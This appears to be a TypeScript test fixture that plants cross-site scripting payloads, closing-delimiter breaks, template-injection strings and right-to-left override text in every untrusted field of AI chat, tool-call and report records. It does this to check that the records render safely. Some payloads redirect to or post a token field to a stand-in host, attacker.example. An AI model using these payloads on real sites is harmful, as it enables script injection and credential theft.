/** Injection attacks: markup, scripts, links, closing delimiters, and bidirectional characters. */
import type { JsonObject, Mutation } from '../../../src/contract/index.ts'

/** The variable that an attack sets when it runs. */
export const RAN = 'strangersCodeRan'
const RUN = `globalThis.${RAN}=1;alert(1)`

export const ATTACKS: readonly string[] = [
  `<img src=x onerror="${RUN}">`,
  `<script>${RUN}</script>`,
  `"><svg onload="${RUN}">`,
  `'><a href="javascript:${RUN}" onmouseover='${RUN}'>a link</a>`,
  `[a link](javascript:${RUN})`,
  `</script><script>${RUN}</script>`,
  `</style><style>*{display:none}</style>`,
  `--></title></textarea></template><iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<!--<script>`,
  `]]><meta http-equiv="refresh" content="0;url=https://attacker.example/">`,
  `<form action="https://attacker.example/"><input name="token" autofocus onfocus="${RUN}"></form>`,
  `<link rel="stylesheet" href="https://attacker.example/a.css"><img src="https://attacker.example/a.png">`,
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 1 %>',
  '&lt;b&gt;&#60;i&#62; &amp;quot;',
]

/** A right-to-left override. */
const TURNED = 'pay \u202e001\u202c euros \u2066to\u2069 \u200bme\u200f'

export const HOSTILE_TEXT = [...ATTACKS, TURNED].join('\n')

/** A name of the maximum length with unusual characters. */
export const HOSTILE_NAME = `<b onclick="${RUN}">'&amp;`
export const HOSTILE_REQUEST = `Please add this: ${HOSTILE_TEXT}`
export const HOSTILE_FAILURE = `Please fail: ${HOSTILE_TEXT}`
export const HOSTILE_WAIT = `Please wait: ${HOSTILE_TEXT}`

/** Every untrusted field of a row. */
const mutations: readonly Mutation[] = [
  { op: 'update', id: 'house-rules', options: { config: { text: HOSTILE_TEXT } } },
  {
    op: 'create',
    id: 'hostile',
    options: { name: 'skill', config: { name: 'hostile', text: `---\nname: hostile\ndescription: A skill.\n---\n${HOSTILE_TEXT}\n` } },
  },
  { op: 'create', id: 'long', options: { name: 'rules', config: { text: 'word '.repeat(12_000) } } },
]

export const HOSTILE_PLAYS = [
  {
    words: HOSTILE_REQUEST,
    proposal: {
      mutations,
      requires: [{ name: 'HOSTILE', kind: 'env', prompt: ATTACKS[0] ?? '', check: ATTACKS[1] ?? '' }],
      notes: {
        design: `${HOSTILE_TEXT}\n## How to use\n${HOSTILE_TEXT}`,
        review: { result: HOSTILE_TEXT, covered: ATTACKS, uncovered: [TURNED] },
        undeclared_env: ATTACKS,
        failure: HOSTILE_TEXT,
      },
    },
  },
  { words: HOSTILE_FAILURE, failure: HOSTILE_TEXT },
  { words: HOSTILE_WAIT, waits: true, activity: ATTACKS.map((text) => ['agent', text, true] as const) },
]

/** A hostile text in every untrusted field of an exchange. */
const chat: JsonObject = {
  model: HOSTILE_TEXT,
  stream: true,
  temperature: ATTACKS[0] ?? '',
  tools: [{ type: 'function', function: { name: ATTACKS[0] ?? '', description: HOSTILE_TEXT } }],
  messages: [
    { role: ATTACKS[0] ?? '', content: HOSTILE_TEXT },
    {
      role: 'user',
      content: [
        { type: ATTACKS[0] ?? '', text: HOSTILE_TEXT },
        { type: 'image_url', image_url: { url: `javascript:${RUN}` } },
      ],
    },
    { role: 'user', content: [{ type: 'image_url', image_url: { url: `data:text/html,<script>${RUN}</script>` } }] },
    {
      role: 'user',
      content: [{ type: 'image_url', image_url: { url: `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>` } }],
    },
    { role: 'assistant', tool_calls: [{ id: ATTACKS[0] ?? '', function: { name: HOSTILE_TEXT, arguments: HOSTILE_TEXT } }] },
    { role: 'tool', tool_call_id: HOSTILE_TEXT, content: HOSTILE_TEXT },
    null,
    [HOSTILE_TEXT],
  ],
  response: {
    choices: [{ message: { content: HOSTILE_TEXT, refusal: HOSTILE_TEXT }, finish_reason: HOSTILE_TEXT }],
    usage: { [HOSTILE_TEXT]: HOSTILE_TEXT },
  },
}
const messages: JsonObject = {
  model: 'm',
  system: HOSTILE_TEXT,
  max_tokens: 1,
  messages: [{ role: 'user', content: [{ type: 'tool_result', tool_use_id: HOSTILE_TEXT, is_error: true, content: HOSTILE_TEXT }] }],
  response: {
    type: 'message',
    content: [
      { type: 'thinking', thinking: HOSTILE_TEXT },
      { type: 'tool_use', id: 't', name: HOSTILE_TEXT, input: { [HOSTILE_TEXT]: HOSTILE_TEXT } },
      { type: 'image', source: { type: 'base64', media_type: 'text/html', data: 'PHNjcmlwdD4=' } },
      { type: HOSTILE_TEXT, [HOSTILE_TEXT]: 1 },
    ],
    stop_reason: HOSTILE_TEXT,
  },
}
const responses: JsonObject = {
  model: 'm',
  instructions: HOSTILE_TEXT,
  input: [
    { role: 'user', content: HOSTILE_TEXT },
    { type: 'function_call_output', call_id: 'c', output: HOSTILE_TEXT },
  ],
  response: {
    object: 'response',
    status: HOSTILE_TEXT,
    output: [{ type: 'message', content: [{ type: 'output_text', text: HOSTILE_TEXT }] }],
  },
}

/** By their ids. */
export const HOSTILE_RECORDS: Readonly<Record<string, readonly [type: 'inference' | 'report', payload: JsonObject]>> = {
  'a-chat': ['inference', chat],
  'a-message': ['inference', messages],
  'a-response': ['inference', responses],
  'a-report': ['report', { score: 0, feedback: HOSTILE_TEXT, references: [], metadata: { [HOSTILE_TEXT]: HOSTILE_TEXT } }],
}
